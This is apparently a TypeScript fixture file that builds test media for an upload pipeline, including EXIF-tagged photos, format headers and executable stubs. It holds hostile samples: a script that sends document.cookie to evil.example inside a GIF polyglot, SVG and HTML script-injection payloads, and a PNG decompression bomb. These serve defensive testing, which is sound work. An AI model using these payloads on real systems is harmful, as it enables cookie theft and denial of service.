import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Pixels that no two neighbours share, so that an encoder cannot make next to nothing of them. */
export function noise(width: number, height: number): Buffer {
  const pixels = Buffer.alloc(width * height * 3);
  let state = 1;
  for (let i = 0; i < pixels.length; i += 1) {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
    pixels[i] = state >> 16;
  }
  return pixels;
}

const raw = (width: number, height: number) => ({ raw: { width, height, channels: 3 as const } });

/** A photo: its left half red, its right half blue. */
export function photo(width: number, height: number) {
  const half = {
    create: { width: Math.ceil(width / 2), height, channels: 3 as const, background: '#2040e0' },
  };
  return sharp({ create: { width, height, channels: 3, background: '#e02020' } }).composite([
    { input: half, gravity: 'east' },
  ]);
}

/** A JPEG as a phone makes it: turned by its EXIF orientation, with the place and the camera in it. */
export function phonePhoto(): Promise<Buffer> {
  return photo(1200, 800)
    .jpeg()
    .withExif({
      IFD0: { Make: 'Camera Maker', Model: 'Secret Phone' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 3230/100', GPSLongitudeRef: 'W' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** `bytes` bytes of JPEG, or a little more. */
export async function noisyJpeg(minBytes: number): Promise<Buffer> {
  for (let side = 512; ; side *= 1.5) {
    const size = Math.round(side);
    const bytes = await sharp(noise(size, size), raw(size, size)).jpeg({ quality: 100 }).toBuffer();
    if (bytes.length >= minBytes) return bytes;
  }
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), body.length + 4);
  return out;
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A PNG of one bit a pixel, all of them white or none: a few kilobytes that unpack to `width` × `height`. */
export function hugePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 });
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const script = '*/=1;fetch("https://evil.example/"+document.cookie)//';

/** Shown as a picture, and run as a script where somebody is careless: what follows its pixels is JavaScript. */
export async function gifPolyglot(): Promise<Buffer> {
  const gif = await photo(32, 16).gif().toBuffer();
  return Buffer.concat([gif, Buffer.from(`\n${script}`)]);
}

export async function filmGif(frames: number): Promise<Buffer> {
  const width = 20;
  const height = 10;
  const rows = noise(width, height * frames);
  return sharp(rows, { raw: { width, height: height * frames, channels: 3, pageHeight: height } })
    .gif({ delay: Array.from({ length: frames }, () => 80) })
    .toBuffer();
}

/** The head of a Windows program. */
export const program = Buffer.concat([
  Buffer.from('4d5a90000300000004000000ffff0000b800000000000000', 'hex'),
  Buffer.alloc(200),
  Buffer.from('This program cannot be run in DOS mode.\r\r\n$'),
]);
export const elf = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(120)]);
export const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
);
export const html = Buffer.from('<!doctype html><script>alert(document.cookie)</script>');
export const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
export const plain = Buffer.from('Zażółć gęślą jaźń, café, 日本語\n');

const box = (type: string, body: string) => {
  const out = Buffer.alloc(8);
  out.writeUInt32BE(8 + body.length, 0);
  out.write(type, 4, 'latin1');
  return Buffer.concat([out, Buffer.from(body, 'latin1')]);
};
export const mp4 = Buffer.concat([box('ftyp', 'isom\0\0\0\0isomavc1'), box('mdat', 'x'.repeat(3000))]);
export const m4a = Buffer.concat([box('ftyp', 'M4A \0\0\0\0M4A mp42'), box('mdat', 'x'.repeat(300))]);
export const wav = Buffer.concat([
  Buffer.from(
    'RIFF\x44\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0\x40\x1f\0\0\x80\x3e\0\0\x02\0\x10\0data\x20\0\0\0',
    'latin1',
  ),
  Buffer.alloc(32),
]);
const matroska = (codec: string) =>
  Buffer.concat([
    Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810442858102', 'hex'),
    Buffer.from('18538067', 'hex'),
    Buffer.from(`\x16\x54\xae\x6b\xae\x86${codec}`, 'latin1'),
    Buffer.alloc(200),
  ]);
export const voiceWebm = matroska('A_OPUS');
export const filmWebm = matroska('V_VP9');
